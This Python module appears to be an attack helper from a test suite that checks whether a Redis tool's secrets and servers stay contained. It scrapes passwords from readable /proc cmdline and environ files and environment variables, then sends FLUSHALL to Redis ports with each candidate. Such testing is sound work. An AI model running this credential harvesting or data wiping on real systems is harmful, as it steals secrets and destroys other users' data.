"""What an attack module uses: look for secrets everywhere it can read, and try them on the target.

Targets are only the ports the suite lists in ``/tmp/redisprep-adversarial-*/targets`` (its
foreign servers) and the private server of this very grading (a redis-server whose parent is the
grader): never anything else on this shared machine. Everything found is printed (so the suite's
leak scan sees it) and written to those world-writable drop folders, which the suite reads.
"""

from __future__ import annotations

import glob
import os
import re
import socket


def _own_drops() -> list[str]:
    """The drop folder of the test process this grading runs under (its nearest ancestor with one):
    another test process's folder and targets are not this attack's (they run side by side)."""
    pid = os.getpid()
    for _ in range(8):
        if os.path.isdir(f"/tmp/redisprep-adversarial-{pid}"):
            return [f"/tmp/redisprep-adversarial-{pid}"]
        try:
            with open(f"/proc/{pid}/stat", "rb") as f:
                pid = int(f.read().rpartition(b")")[2].split()[1])
        except (OSError, ValueError, IndexError):
            break
        if pid <= 1:
            break
    return []


DROPS = _own_drops()
_URL = re.compile(r"rediss?(?:\+cluster)?://[^\s\x00]*")


def readable(path: str) -> bytes:
    try:
        with open(path, "rb") as f:
            return f.read()
    except OSError:
        return b""


def secrets_nearby() -> set[str]:
    """Password candidates from every /proc cmdline and environ this process can read."""
    texts = [readable(p) for p in glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/environ")]
    texts.append("\0".join(f"{k}={v}" for k, v in os.environ.items()).encode())
    found: set[str] = set()
    for raw in texts:
        text = raw.replace(b"\0", b" ").decode("latin-1")
        for url in _URL.findall(text):
            userinfo = url.split("://", 1)[1].rpartition("@")[0]
            if userinfo:
                found.add(userinfo.split(":", 1)[-1])
            found.update(re.findall(r"password=([^&\s]+)", url))
        found.update(re.findall(r"requirepass\s+(\S+)", text))
    return {f for f in found if f and "*" not in f}


def targets() -> list[int]:
    """The test's foreign server, and this grading's private server (if one can be seen)."""
    ports = [int(p) for drop in DROPS for p in readable(f"{drop}/targets").split()]
    me = os.getppid()
    for stat in glob.glob("/proc/[0-9]*/stat"):
        fields = readable(stat).rpartition(b")")[2].split()
        cmd = readable(stat.replace("stat", "cmdline"))
        if len(fields) > 1 and int(fields[1]) == me and b"redis-server" in cmd:
            ports += [int(p) for p in re.findall(rb"127\.0\.0\.1:(\d+)", cmd)]
    return ports


def send(port: int, *commands: list[str]) -> list[bytes]:
    """Raw RESP on a fresh socket: each command's first reply line."""
    replies = []
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=1) as s:
            for argv in commands:
                wire = f"*{len(argv)}\r\n" + "".join(f"${len(a.encode())}\r\n{a}\r\n" for a in argv)
                s.sendall(wire.encode())
                replies.append(s.recv(4096).split(b"\r\n", 1)[0])
    except OSError as exc:
        replies.append(f"-socket: {exc}".encode())
    return replies


def wreck(extra: set[str] | None = None) -> list[str]:
    """FLUSHALL every target, without a password and with each candidate; what worked."""
    worked = []
    for port in targets():
        for password in [None, *sorted((extra or set()) | secrets_nearby())]:
            auth = [["AUTH", password]] if password is not None else []
            reply = send(port, *auth, ["FLUSHALL"])[-1]
            if reply.startswith(b"+OK"):
                worked.append(f"FLUSHALL on {port} with {password!r}")
    return worked


def report(name: str, findings: list[str] | set[str]) -> None:
    """Print and drop what the attack got (nothing, when contained)."""
    lines = [f"{name}: {f}" for f in sorted(findings)]
    print("\n".join(lines) or f"{name}: nothing", flush=True)
    for drop in DROPS:
        try:
            with open(f"{drop}/{name}-{os.getpid()}.txt", "w") as f:
                f.write("\n".join(lines))
        except OSError:
            pass
